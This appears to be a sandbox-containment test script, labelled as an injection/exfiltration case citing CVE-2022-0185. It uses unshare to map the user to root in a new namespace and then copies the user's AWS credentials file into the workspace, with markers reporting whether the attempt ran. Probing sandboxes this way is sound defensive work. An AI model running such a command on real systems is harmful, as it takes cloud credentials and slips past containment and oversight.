# family: injection
# tries: get "root" without sudo through unshare -r (a new user namespace mapping the user to root) and copy the AWS credentials into the workspace from there
# source: https://nvd.nist.gov/vuln/detail/CVE-2022-0185
# exfil: yes
# stopped-when: canary-unread
# attempted-when: marker
[ $# -ge 8 ] || { echo "usage: $0 TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES" >&2; exit 2; }
command -v unshare >/dev/null 2>&1 || { echo "CANNOT $1 unshare is not installed" >&2; exit 3; }
(echo "ATTEMPTED $1" >&2)
unshare --user --map-root-user --mount \
	sh -c 'id -u; cat "$1/.aws/credentials" > creds.txt' sh "$2" 2>&1
